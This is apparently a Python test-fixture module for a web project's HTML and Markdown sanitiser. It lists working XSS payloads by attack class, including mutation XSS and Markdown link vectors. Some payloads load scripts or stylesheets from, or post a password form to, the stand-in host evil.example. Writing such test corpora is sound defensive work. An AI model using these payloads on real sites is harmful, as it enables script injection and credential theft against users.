"""The project's own XSS cases, one group per attack class, written for this project.

They cover the ground of the shared corpus (../shared/testdata/xss) without it,
so a clone of the project alone still tests every class. Each group is a list of
(id, payload). `tests/test_xss.py` runs every case through both sanitiser
backends, the chapter and comment pipelines and the sanitiser itself, with the
checks in `tests/xss_checks.py`.

`HTML_CLASSES` are HTML payloads a parser already reads as script-capable before
sanitising (a test checks that, so the inspector is known to see each one).
Mutation XSS hides its vector from a parser that does not mutate the tree, and
Markdown vectors are not HTML until rendered, so these stand apart.
"""

SCRIPT_TAGS = [
    ("plain", "<script>alert(1)</script>"),
    ("uppercase", "<SCRIPT>alert(1)</SCRIPT>"),
    ("src", '<script src="https://evil.example/x.js"></script>'),
    ("unclosed", "<script>alert(1)"),
    ("slash-attribute", "<script/xss src=https://evil.example/x.js></script>"),
    ("nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("space-before-close", "<script >alert(1)</script >"),
    ("after-broken-attribute", '<img """><script>alert(1)</script>">'),
    ("in-paragraph", "<p>before<script>alert(1)</script>after</p>"),
    ("type-module", '<script type="module">import("https://evil.example/x.js")</script>'),
]

EVENT_HANDLERS = [
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-quoted", '<img src="x" onerror="alert(1)">'),
    ("body-onload", "<body onload=alert(1)>"),
    ("p-onmouseover", '<p onmouseover="alert(1)">hover</p>'),
    ("a-onclick", '<a href="https://example.org/" onclick="alert(1)">x</a>'),
    ("mixed-case", "<IMG SRC=x OnErRoR=alert(1)>"),
    ("slash-separator", '<img src="x"/onerror="alert(1)">'),
    ("svg-slash", "<svg/onload=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("video-source", "<video><source onerror=alert(1)></video>"),
    ("input-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("entity-in-handler", "<img src=x onerror=&#97;lert(1)>"),
]

SCRIPT_URLS = [
    ("javascript", '<a href="javascript:alert(1)">x</a>'),
    # bleach reads `javascript:123` as host and port and lets it through;
    # wethink.sanitize.url_is_allowed refuses it.
    ("javascript-number", '<a href="javascript:123">x</a>'),
    ("mixed-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("leading-space", '<a href="  javascript:alert(1)">x</a>'),
    ("tab-inside", '<a href="jav\tascript:alert(1)">x</a>'),
    ("newline-inside", '<a href="java\nscript:alert(1)">x</a>'),
    ("tab-entity", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("newline-entity", '<a href="jav&#10;ascript:alert(1)">x</a>'),
    ("control-char-entity", '<a href="&#x01;javascript:alert(1)">x</a>'),
    ("control-char-raw", '<a href="\x01javascript:alert(1)">x</a>'),
    ("decimal-entities", '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>'),
    ("hex-entities-no-semicolon", '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>'),
    ("padded-entities", '<a href="&#0000106;avascript:alert(1)">x</a>'),
    ("named-colon", '<a href="javascript&colon;alert(1)">x</a>'),
    ("double-encoded", '<a href="&amp;#106;avascript:alert(1)">x</a>'),
    ("unquoted", "<a href=javascript:alert(1)>x</a>"),
    ("img-src", '<img src="javascript:alert(1)" alt="a">'),
    ("vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("vbscript-upper", '<a href="VBSCRIPT:msgbox(1)">x</a>'),
    ("data-html", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("data-base64", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("data-img", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("data-mixed-case", '<a href="DaTa:text/html,<script>alert(1)</script>">x</a>'),
    ("livescript", '<a href="livescript:alert(1)">x</a>'),
    ("iframe-src", '<iframe src="javascript:alert(1)"></iframe>'),
    ("area-href", '<map><area href="javascript:alert(1)"></map>'),
    ("table-background", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
    ("button-formaction", '<button formaction="javascript:alert(1)">x</button>'),
]

SVG_MATHML = [
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    ("svg-animate", '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>'),
    ("svg-use", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'),
    ("svg-foreignobject", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"),
    ("math-href", '<math href="javascript:alert(1)">x</math>'),
    ("math-maction", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">'),
    ("math-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
]

STYLE_CSS = [
    ("expression", '<p style="width: expression(alert(1))">x</p>'),
    ("url-javascript", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("moz-binding", "<p style=\"-moz-binding:url('https://evil.example/x.xml#x')\">x</p>"),
    ("style-tag", "<style>*{-moz-binding:url(https://evil.example/x.xml#x)}</style>"),
    ("style-tag-import", "<style>@import 'https://evil.example/x.css';</style>"),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("escaped-expression", '<p style="width: exp\\72 ession(alert(1))">x</p>'),
    ("comment-in-expression", '<p style="width: expr/**/ession(alert(1))">x</p>'),
]

DOCUMENT_LEVEL = [
    ("base-javascript", '<base href="javascript:alert(1)//">'),
    ("base-elsewhere", '<base href="https://evil.example/">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("meta-refresh-data", '<meta http-equiv="refresh" content="0;url=data:text/html,x">'),
    ("form-action", "<form action=javascript:alert(1)><button>go</button></form>"),
    ("form-elsewhere", '<form action="https://evil.example/"><input name="password"></form>'),
    ("object-data", '<object data="data:text/html,<script>alert(1)</script>"></object>'),
    ("embed-src", "<embed src=javascript:alert(1)>"),
    ("applet", '<applet code="x.class"></applet>'),
    ("frameset", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    ("conditional-comment", "<p>a<!--[if IE]><script>alert(1)</script><![endif]-->b</p>"),
]

ATTRIBUTE_BREAKING = [
    ("quote-then-handler", '<img src="x" alt="a" onerror="alert(1)" title="b">'),
    ("stray-quote", '<a href="x" title="y" onclick=alert(1) ">z</a>'),
    ("no-space", '<img src="x"onerror="alert(1)">'),
    ("title-closes-tag", '<a title="x" href="javascript:alert(1)" x="">y</a>'),
    ("duplicate-href", '<a href="https://example.org/" href="javascript:alert(1)">x</a>'),
    ("slash-in-tag", '<a/href="javascript:alert(1)">x</a>'),
    ("newline-before-handler", "<img src=x\nonerror=alert(1)>"),
    ("unclosed-tag", '<img src=x onerror="alert(1)"<p>x</p>'),
    ("self-closing-slashes", '<img src="x" onerror="alert(1)"//>'),
]

# Hidden from a parser that does not mutate the tree; a browser re-parsing the
# serialised output would find the vector.
MUTATION = [
    ("noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("template", "<template><img src=x onerror=alert(1)></template>"),
    ("template-script", "<template><script>alert(1)</script></template>"),
    ("comment-in-attribute", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    ("comment-bogus-close", "<!--><img src=x onerror=alert(1)>-->"),
    ("svg-style-close", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    ("math-style-close", '<math><mi><style><a title="</style><img src=x onerror=alert(1)>">'),
    (
        "form-nesting",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    ("textarea-close", '<textarea><p title="</textarea><img src=x onerror=alert(1)>">'),
    ("title-close", '<title><p title="</title><img src=x onerror=alert(1)>">'),
    ("xmp-close", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
    ("table-hoisting", '<table><a href="javascript:alert(1)">x<td>y</td></a></table>'),
    ("cdata", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),
]

# Plain Python-Markdown turns each of these into script-capable HTML (a test
# checks that): the pipeline's raw-HTML switch and the sanitiser must stop them.
MARKDOWN = [
    ("link-javascript", "[x](javascript:alert(1))"),
    ("link-mixed-case", "[x](JaVaScRiPt:alert(1))"),
    ("link-entity", "[x](&#106;avascript:alert(1))"),
    ("link-named-colon", "[x](javascript&colon;alert(1))"),
    ("link-angle-brackets", "[x](<javascript:alert(1)>)"),
    ("link-vbscript", "[x](vbscript:msgbox(1))"),
    ("link-data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("image-javascript", "![x](javascript:alert(1))"),
    ("image-data", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("reference-link", "[x][1]\n\n[1]: javascript:alert(1)"),
    ("reference-link-titled", '[x]\n\n[x]: javascript:alert(1) "title"'),
    ("reference-image", "![x][i]\n\n[i]: javascript:alert(1)"),
    ("raw-html-block", "Text.\n\n<script>\nalert(1)\n</script>\n\nMore text."),
    ("raw-html-div", '<div onmouseover="alert(1)">\n*x*\n</div>'),
    ("raw-html-inline", "a <img src=x onerror=alert(1)> b"),
    ("raw-html-in-list", "- item <a href=javascript:alert(1)>x</a>"),
    ("raw-html-in-quote", "> <iframe src=javascript:alert(1)></iframe>"),
    ("raw-html-in-table", "| a |\n|---|\n| <img src=x onerror=alert(1)> |"),
    ("raw-html-in-heading", "# <svg onload=alert(1)>"),
]

# Markdown syntax that could carry a vector into an attribute or past the raw-HTML
# switch once the pipeline's extensions (footnotes, fenced code, tables) are on.
MARKDOWN_SYNTAX = [
    ("link-title-breaking", '[x](https://example.org/ "a\\" onmouseover=\\"alert(1)")'),
    ("image-alt-breaking", '![a" onerror="alert(1)](https://example.org/a.png)'),
    ("autolink-javascript", "<javascript:alert(1)>"),
    ("autolink-vbscript", "<vbscript:msgbox(1)>"),
    ("autolink-mailto-breaking", '<mailto:a@example.org" onclick="alert(1)>'),
    ("autolink-url-breaking", '<https://example.org/" onclick="alert(1)>'),
    ("footnote-raw-html", "x[^1]\n\n[^1]: <script>alert(1)</script>"),
    ("footnote-link", "x[^1]\n\n[^1]: [y](javascript:alert(1))"),
    ("footnote-label-breaking", 'x[^a" onclick="alert(1)]\n\n[^a" onclick="alert(1)]: y'),
    ("code-fence-language", '```" onmouseover="alert(1)\nx\n```'),
    ("code-fence-script", "```html\n<script>alert(1)</script>\n```"),
    ("code-span-script", "`<script>alert(1)</script>`"),
    ("attribute-list", "# x {onclick=alert(1)}\n\ny {: onclick=alert(1) }"),
    ("heading-slug", '# "><script>alert(1)</script>'),
    ("table-align", '| a |\n|:--|\n| <a href="javascript:alert(1)">x</a> |'),
    ("entity-script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("escaped-brackets", "\\<script>alert(1)\\</script>"),
]

GROUPS: dict[str, list[tuple[str, str]]] = {
    "script-tags": SCRIPT_TAGS,
    "event-handlers": EVENT_HANDLERS,
    "script-urls": SCRIPT_URLS,
    "svg-mathml": SVG_MATHML,
    "style-css": STYLE_CSS,
    "document-level": DOCUMENT_LEVEL,
    "attribute-breaking": ATTRIBUTE_BREAKING,
    "mutation": MUTATION,
    "markdown": MARKDOWN,
    "markdown-syntax": MARKDOWN_SYNTAX,
}

HTML_CLASSES = [
    "script-tags",
    "event-handlers",
    "script-urls",
    "svg-mathml",
    "style-css",
    "document-level",
    "attribute-breaking",
]


def all_cases() -> list[tuple[str, str]]:
    """Every case as (group/id, payload)."""
    return [
        (f"{group}/{name}", payload) for group, cases in GROUPS.items() for name, payload in cases
    ]
